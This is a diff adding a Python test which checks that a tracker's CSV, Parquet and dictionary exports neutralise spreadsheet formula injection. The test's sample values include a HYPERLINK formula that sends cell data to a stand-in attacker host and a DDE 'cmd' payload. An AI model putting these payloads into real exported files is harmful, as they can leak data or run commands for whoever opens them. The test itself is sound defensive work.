@@ -236,3 +236,43 @@ def test_export_from_the_command_line(demo_store, exported, tmp_path):
     assert wrong.returncode == 2
     assert wrong.stderr.strip() == "tracker: error: --format must be csv or parquet"
     assert not (tmp_path / "x.xlsx").exists()
+
+
+def test_a_formula_that_reached_the_store_leaves_as_text_in_csv_parquet_and_the_dictionary(store, tmp_path):
+    """CSV formula injection (issue #13, finding 10): cells starting with = + - @ tab or CR are neutralised."""
+    from tracker.store.models import Analysis
+
+    load_demo(store)
+    formulas = {"quality": '=HYPERLINK("http://attacker.example/?"&A1,"Click")', "colour": "+cmd|' /C calc'!A0",
+                "metric_version": "@SUM(1+1)*cmd"}
+    with store.session() as s:  # e.g. written by an older version, or by hand into the database
+        analysis = s.scalars(select(Analysis).order_by(Analysis.id)).first()
+        result = dict(analysis.result)
+        result["quality"] = {**result["quality"], "codes": [formulas["quality"]]}
+        result["colour"] = {**(result.get("colour") or {}), "method": formulas["colour"]}
+        result["metric_version"] = formulas["metric_version"]
+        analysis.result = result
+    for fmt in ("csv", "parquet"):
+        write_export(store, sv.SYSTEM, tmp_path / f"cohort.{fmt}", fmt)
+    with open(tmp_path / "cohort.csv", newline="", encoding="utf-8") as fh:
+        cells = list(csv.DictReader(fh))
+    parquet = pd.read_parquet(tmp_path / "cohort.parquet")
+    for table in (cells, parquet.to_dict("records")):
+        tampered = [row for row in table if str(row["quality_issues"]).startswith("'")]
+        assert len(tampered) == 1
+        assert (tampered[0]["quality_issues"], tampered[0]["colour_method"], tampered[0]["metric_version"]) == (
+            "'" + formulas["quality"], "'" + formulas["colour"], "'" + formulas["metric_version"])
+        text_cells = [v for row in table for k, v in row.items() if isinstance(v, str) and k not in (
+            "days_since_treatment", "days_since_session") and not _number(v)]
+        assert not [v for v in text_cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    dictionary = pd.read_csv(tmp_path / "cohort.dictionary.csv")
+    assert not [v for v in dictionary.to_numpy().ravel()
+                if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
